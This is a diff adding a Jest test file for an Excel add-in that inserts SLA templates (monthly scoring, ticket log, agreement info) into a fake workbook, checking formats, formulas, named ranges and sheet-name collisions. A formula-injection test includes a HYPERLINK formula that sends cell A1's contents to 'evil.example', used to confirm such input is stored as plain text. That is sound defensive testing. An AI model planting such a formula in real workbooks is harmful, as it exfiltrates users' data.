@@ -1,0 +1,252 @@
+/**
+ * insertTemplate against the strict fake Excel: what lands in the workbook, in at most two syncs.
+ */
+import { insertTemplate } from "../../src/excel";
+import { NUMBER_FORMATS } from "../../src/excel/formats";
+import { getTemplate, LANGS, TEMPLATES, isTable, type Lang, type Template } from "../../src/templates";
+import type { FakeCell, FakeWorkbook } from "./fakeWorkbook";
+import { createStrictExcel, type InitialWorkbook } from "./strictExcel";
+
+const SHEET1: InitialWorkbook = { sheets: [{ name: "Sheet1", cells: { A1: "mine", B2: 42 } }] };
+
+async function insert(tp: Template, lang: Lang, options: Parameters<typeof insertTemplate>[3] = { examples: true }, initial: InitialWorkbook = SHEET1) {
+  const excel = createStrictExcel(initial);
+  const result = await insertTemplate((batch) => excel.run(batch), tp, lang, options);
+  const sheet = excel.workbook.sheet(result.sheetName);
+  const cell = (address: string): FakeCell => sheet.cells.get(address) ?? {};
+  return { excel, wb: excel.workbook, result, sheet, cell };
+}
+
+const textCells = (wb: FakeWorkbook, sheet: string) => [...wb.sheet(sheet).cells].filter(([, c]) => c.kind === "text");
+
+describe.each(TEMPLATES.flatMap((tp) => LANGS.map((lang) => [tp.id, lang, tp] as const)))("%s (%s)", (_id, lang, tp) => {
+  test("one new sheet with its tables, in at most 2 syncs; the existing sheet untouched", async () => {
+    const excel = createStrictExcel(SHEET1);
+    const before = excel.workbook.sheet("Sheet1").snapshot();
+    const result = await insertTemplate((batch) => excel.run(batch), tp, lang, { examples: true });
+    const wb = excel.workbook;
+    expect(wb.syncs).toBeLessThanOrEqual(2);
+    expect(result.sheetName).toBe(tp.sheetName[lang]);
+    expect(wb.sheets.map((s) => s.name)).toEqual(["Sheet1", tp.sheetName[lang]]);
+    expect(wb.sheet("Sheet1").snapshot()).toBe(before);
+
+    const sheet = wb.sheet(result.sheetName);
+    expect(sheet.activated).toBe(true);
+    const blocks = tp.blocks.filter(isTable);
+    expect(wb.tables.map((t) => [t.name, t.style])).toEqual(blocks.map((b) => [b.tableName, "TableStyleMedium2"]));
+    expect(result.tableNames).toEqual(blocks.map((b) => b.tableName));
+    expect(result.exampleRows).toBe(blocks.reduce((n, b) => n + b.examples.length, 0));
+    expect(sheet.page.zoom).toEqual({ horizontalFitToPages: 1, verticalFitToPages: 0 });
+    if (blocks.length) expect(sheet.frozenRows).toBeGreaterThanOrEqual(4);
+    expect(sheet.columnWidths.size).toBeGreaterThan(1);
+  });
+
+  test("text cells are text-formatted, calculated columns hold formulas, names in formulas exist", async () => {
+    const { wb, result, sheet } = await insert(tp, lang);
+    for (const [address, c] of textCells(wb, result.sheetName)) expect([address, c.numberFormat]).toEqual([address, "@"]);
+    for (const table of tp.blocks.filter(isTable)) {
+      const placed = wb.tables.find((t) => t.name === table.tableName)!;
+      const [, firstCol, firstRow, , lastRow] = /^([A-Z]+)(\d+):([A-Z]+)(\d+)$/.exec(placed.address)!;
+      const headers = table.columns.map((_, j) => sheet.cells.get(`${String.fromCharCode(firstCol.charCodeAt(0) + j)}${firstRow}`)?.value);
+      expect(headers).toEqual(table.columns.map((c) => c.header[lang]));
+      table.columns.forEach((column, j) => {
+        const letter = String.fromCharCode(firstCol.charCodeAt(0) + j);
+        for (let r = Number(firstRow) + 1; r <= Number(lastRow); r++) {
+          const c = sheet.cells.get(`${letter}${r}`) ?? {};
+          expect([`${letter}${r}`, c.numberFormat !== undefined]).toEqual([`${letter}${r}`, true]);
+          if (column.formula) expect([`${letter}${r}`, c.kind, c.numberFormat]).toEqual([`${letter}${r}`, "formula", NUMBER_FORMATS[column.format]]);
+        }
+      });
+    }
+    const formulas = [...sheet.cells.values()].flatMap((c) => (c.formula ? [c.formula] : []));
+    for (const f of formulas) for (const m of f.matchAll(/\bSLA_[A-Za-z0-9]+\b/g)) expect([f, wb.nameTaken(m[0])]).toEqual([f, true]);
+  });
+});
+
+describe("monthly scoring (zh): what is written", () => {
+  let ctx: Awaited<ReturnType<typeof insert>>;
+  beforeAll(async () => {
+    ctx = await insert(getTemplate("scoring"), "zh");
+  });
+
+  test("values with their formats", () => {
+    const { cell } = ctx;
+    expect(cell("A1")).toMatchObject({ kind: "text", value: "月度考核评分表", bold: true, size: 16 });
+    expect(["A4", "B4", "G4"].map((a) => cell(a).value)).toEqual(["考核指标", "权重", "得分"]);
+    expect(["B5", "B6", "B7"].map((a) => [cell(a).value, cell(a).numberFormat])).toEqual([
+      [0.4, "0%"],
+      [0.3, "0%"],
+      [0.3, "0%"],
+    ]);
+    expect(cell("C5")).toMatchObject({ kind: "text", value: "≥90%", numberFormat: "@" });
+    expect(cell("D5")).toMatchObject({ kind: "number", value: 0.88, numberFormat: "0%" });
+    expect(cell("E5")).toMatchObject({ kind: "text", value: "达标100分，每低于1%扣5分" });
+  });
+
+  test("formulas: structured references, the engine's functions, the grade scale's name", () => {
+    const { cell } = ctx;
+    expect(cell("F5").formula).toBe('=IF([@[实际值]]="","",SLA.MET([@[实际值]],[@[标准值]]))');
+    expect(cell("G7").formula).toBe('=IF([@[实际值]]="","",SLA.SCORE([@[实际值]],[@[标准值]],[@[评分规则]]))');
+    expect(cell("H6").formula).toBe('=IF([@[实际值]]="","",SLA.EXPLAIN([@[实际值]],[@[标准值]],[@[评分规则]]))');
+    expect(cell("J4").value).toBe("加权总分");
+    expect(cell("K4")).toMatchObject({
+      formula: '=IF(COUNT(SLA_Scoring[[得分]])=0,"",SLA.WEIGHTED(SLA_Scoring[[得分]],SLA_Scoring[[权重]]))',
+      numberFormat: "0.0",
+    });
+    expect(cell("K5").formula).toBe('=IF($K$4="","",SLA.GRADE($K$4,SLA_GradeScale))');
+  });
+
+  test("the grade scale is created with its default, and the result says so", () => {
+    const { wb, result } = ctx;
+    expect(wb.name("SLA_GradeScale")).toMatchObject({ formula: '="优秀≥90;合格≥80;不合格"', comment: "等级划分" });
+    expect(result.namesCreatedWithDefaults).toEqual(["SLA_GradeScale"]);
+    expect(result.notices.map((n) => n.id)).toEqual(["namesCreatedWithDefaults"]);
+    expect(result.notices[0].text.zh).toContain("SLA_GradeScale");
+  });
+
+  test("validation, prompts, conditional formats, widths, frozen header, print setup", () => {
+    const { sheet } = ctx;
+    expect(sheet.validations).toContainEqual({ address: "B5:B7", rule: { decimal: { operator: "Between", formula1: 0, formula2: 1 } } });
+    expect(sheet.prompts).toContainEqual({ address: "B4", prompt: { showPrompt: true, title: "权重", message: "各项权重合计应为100%" } });
+    expect(sheet.conditionalFormats).toContainEqual({ address: "D5:D7", type: "Custom", formula: "=$F5=FALSE", fill: "#F8D7DA", font: "#842029" });
+    expect(sheet.conditionalFormats).toContainEqual({ address: "K5", type: "Custom", formula: '=AND($K$5<>"",$K$5=$K$7)', fill: "#D1E7DD", font: "#0F5132" });
+    expect(sheet.columnWidths.get("E")).toBe(161.25);
+    expect(sheet.frozenRows).toBe(4);
+    expect(sheet.page).toEqual({ orientation: "Landscape", zoom: { horizontalFitToPages: 1, verticalFitToPages: 0 }, titleRows: "$4:$4" });
+  });
+});
+
+test("the English scoring sheet: the seed's rules arrive as text, even \"-5 per 1% below\"", async () => {
+  const { cell } = await insert(getTemplate("scoring"), "en");
+  expect(cell("E5")).toMatchObject({ kind: "text", value: "-5 per 1% below", numberFormat: "@" });
+  expect(cell("C5")).toMatchObject({ kind: "text", value: "≥90%" });
+  expect(cell("G5").formula).toBe('=IF([@[Actual]]="","",SLA.SCORE([@[Actual]],[@[Standard]],[@[Scoring rule]]))');
+});
+
+describe("ticket log (zh)", () => {
+  test("dropdowns, date-times as serials, phone numbers as text, due time from the priority's limit", async () => {
+    const { sheet, cell, wb, result } = await insert(getTemplate("tickets"), "zh");
+    expect(sheet.validations).toContainEqual({ address: "G5:G6", rule: { list: { inCellDropDown: true, source: "P1,P2,P3" } } });
+    expect(sheet.validations).toContainEqual({ address: "F5:F6", rule: { list: { inCellDropDown: true, source: "焦急,不满,平和" } } });
+    expect(sheet.validations).toContainEqual({ address: "D5:D6", rule: { list: { inCellDropDown: true, source: "产品咨询,售后投诉,售后服务,建议,其他" } } });
+    expect(cell("I5")).toMatchObject({ kind: "number", value: 45413.4375, numberFormat: "yyyy-mm-dd hh:mm" });
+    expect(cell("B5")).toMatchObject({ kind: "text", value: "5678" });
+    expect(cell("J5").formula).toBe(
+      '=IF(OR([@[记录时间]]="",[@[优先级]]=""),"",SLA.DUE([@[记录时间]],IF([@[优先级]]="P1",SLA_LimitP1,IF([@[优先级]]="P2",SLA_LimitP2,IF([@[优先级]]="P3",SLA_LimitP3,""))),SLA_Calendar))',
+    );
+    expect(sheet.conditionalFormats.filter((c) => c.address === "J5:J6").map((c) => c.fill)).toEqual(["#F8D7DA", "#FFF3CD"]);
+    expect(wb.name("SLA_LimitP1")?.formula).toBe('="2小时"');
+    expect(wb.name("SLA_Calendar")?.formula).toBe('="周一至周五 9:00-18:00"');
+    expect([...result.namesCreatedWithDefaults].sort()).toEqual(["SLA_Calendar", "SLA_LimitP1", "SLA_LimitP2", "SLA_LimitP3", "SLA_ResponseLimit"]);
+  });
+});
+
+describe("agreement info: the parameters' home", () => {
+  test("names point at the form's cells, which hold the defaults", async () => {
+    const { wb, cell, result } = await insert(getTemplate("agreement"), "zh");
+    expect(wb.name("SLA_GradeScale")?.formula).toBe("='协议信息'!$B$18");
+    expect(cell("A18").value).toBe("等级划分");
+    expect(cell("B18")).toMatchObject({ kind: "text", value: "优秀≥90;合格≥80;不合格" });
+    expect(wb.name("SLA_PenaltyRate")?.formula).toBe("='协议信息'!$B$21");
+    expect(cell("B21")).toMatchObject({ kind: "number", value: 0.05, numberFormat: "0%" });
+    expect(cell("B9")).toMatchObject({ kind: "number", value: 45285, numberFormat: "yyyy-mm-dd" }); // 2023-12-25: 2024-01-01 is 45292
+    expect(result.namesCreated).toHaveLength(6);
+    expect(result.notices.map((n) => n.id)).toEqual(["namesLinked"]);
+  });
+
+  test("a constant left by an earlier sheet moves into its cell, value kept", async () => {
+    const initial: InitialWorkbook = { sheets: [{ name: "Sheet1" }], names: [{ name: "SLA_GradeScale", formula: '="A>=90; B>=60; C"', visible: true }] };
+    const { wb, cell, result } = await insert(getTemplate("agreement"), "zh", { examples: true }, initial);
+    expect(wb.name("SLA_GradeScale")?.formula).toBe("='协议信息'!$B$18");
+    expect(cell("B18")).toMatchObject({ kind: "text", value: "A>=90; B>=60; C" });
+    expect(result.namesMoved).toEqual(["SLA_GradeScale"]);
+  });
+
+  test("a name already pointing at cells elsewhere is left alone; the form shows its value", async () => {
+    const initial: InitialWorkbook = { sheets: [{ name: "Old", cells: { B3: "优秀≥95;不合格" } }], names: [{ name: "SLA_GradeScale", formula: "=Old!$B$3", visible: true }] };
+    const { wb, cell, result } = await insert(getTemplate("agreement"), "zh", { examples: true }, initial);
+    expect(wb.name("SLA_GradeScale")?.formula).toBe("=Old!$B$3");
+    expect(cell("B18")).toMatchObject({ kind: "formula", formula: "=SLA_GradeScale" });
+    expect(result.namesKept).toEqual(["SLA_GradeScale"]);
+  });
+});
+
+test("name collision: an existing sheet and table named like the template's stay untouched", async () => {
+  const initial: InitialWorkbook = {
+    sheets: [{ name: "月度评分", cells: { A1: "我的数据", A4: "考核指标", B5: 0.5, C9: "=SUM(B5:B8)" } }],
+    tables: [{ name: "SLA_Scoring", sheet: "月度评分", address: "A4:B8" }],
+  };
+  const excel = createStrictExcel(initial);
+  const before = excel.workbook.sheet("月度评分").snapshot();
+  const result = await insertTemplate((b) => excel.run(b), getTemplate("scoring"), "zh", { examples: true });
+  expect(excel.workbook.syncs).toBe(2);
+  expect(result.sheetName).toBe("月度评分 (2)");
+  expect(result.tableNames).toEqual(["SLA_Scoring2"]);
+  expect(excel.workbook.sheet("月度评分").snapshot()).toBe(before);
+  expect(excel.workbook.tables.find((t) => t.name === "SLA_Scoring")).toEqual(initial.tables![0]);
+  expect(excel.workbook.sheet("月度评分 (2)").cells.get("K4")?.formula).toContain("SLA_Scoring2[[得分]]");
+  expect(result.notices.map((n) => n.id)).toEqual(["sheetRenamed", "tableRenamed", "namesCreatedWithDefaults"]);
+  expect(result.notices[0].text).toEqual({
+    zh: "已有名为“月度评分”的工作表，新工作表命名为“月度评分 (2)”。",
+    en: 'A sheet named "月度评分" already exists; the new sheet is "月度评分 (2)".',
+  });
+});
+
+test("formula injection: text typed by the user beginning with = + - @ lands as text", async () => {
+  const typed = {
+    agreementNo: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    client: "+86 139 0000 0000",
+    provider: "-5 per 1% below",
+    goal: "@SUM(A1:A9)",
+    period: "0138",
+    calendar: "=7*24",
+    monthlyFee: "=1/0",
+  };
+  const { cell, wb } = await insert(getTemplate("agreement"), "en", { examples: false, values: typed });
+  const expected: Record<string, string> = { B5: typed.agreementNo, B6: typed.client, B7: typed.provider, B15: typed.goal, B8: typed.period, B23: typed.calendar, B22: typed.monthlyFee };
+  for (const [address, text] of Object.entries(expected)) expect([address, cell(address)]).toEqual([address, expect.objectContaining({ kind: "text", value: text, numberFormat: "@" })]);
+  for (const c of wb.sheet("Agreement").cells.values()) expect(c.kind).not.toBe("formula");
+});
+
+describe("agreement parameters when a sheet is inserted alone", () => {
+  test("missing names are created with the seeds' defaults", async () => {
+    const { wb, result } = await insert(getTemplate("results"), "en");
+    expect(Object.fromEntries(wb.names.map((n) => [n.name, n.formula]))).toEqual({
+      SLA_GradeScale: '="Excellent>=90; Pass>=80; Fail"',
+      SLA_PenaltyThreshold: "=80",
+      SLA_PenaltyMonths: "=3",
+      SLA_PenaltyRate: "=0.05",
+      SLA_MonthlyFee: "=100000",
+    });
+    expect(result.namesCreatedWithDefaults).toHaveLength(5);
+    expect(result.notices.find((n) => n.id === "namesCreatedWithDefaults")?.text.en).toContain("Insert the Agreement sheet");
+  });
+
+  test("names already there are left alone", async () => {
+    const names = [
+      { name: "sla_gradescale", formula: '="A>=90; B"', visible: true },
+      { name: "SLA_PenaltyThreshold", formula: "=Terms!$B$2", visible: true },
+    ];
+    const { wb, result, sheet } = await insert(getTemplate("results"), "zh", { examples: true }, { sheets: [{ name: "Terms" }], names });
+    expect(wb.name("SLA_GradeScale")).toEqual(names[0]);
+    expect(wb.name("SLA_PenaltyThreshold")).toEqual(names[1]);
+    expect(result.namesKept).toEqual(["SLA_GradeScale", "SLA_PenaltyThreshold"]);
+    expect(result.namesCreatedWithDefaults).toEqual(["SLA_PenaltyMonths", "SLA_PenaltyRate", "SLA_MonthlyFee"]);
+    expect(sheet.writes.some((w) => /name/i.test(w))).toBe(false);
+  });
+});
+
+test("without examples: empty rows with the formulas in place", async () => {
+  const { cell, result } = await insert(getTemplate("scoring"), "zh", { examples: false });
+  expect(result.rowsWritten).toBe(3);
+  expect(result.exampleRows).toBe(0);
+  expect(cell("A5").value).toBeUndefined();
+  expect(cell("A5").numberFormat).toBe("@");
+  expect(cell("G5").formula).toContain("SLA.SCORE");
+});
+
+test("a value typed for a cell the template does not have is refused before anything is written", async () => {
+  const excel = createStrictExcel(SHEET1);
+  await expect(insertTemplate((b) => excel.run(b), getTemplate("scoring"), "zh", { examples: true, values: { nope: "x" } })).rejects.toThrow(/nope/);
+  expect(excel.workbook.sheets).toHaveLength(1);
+});
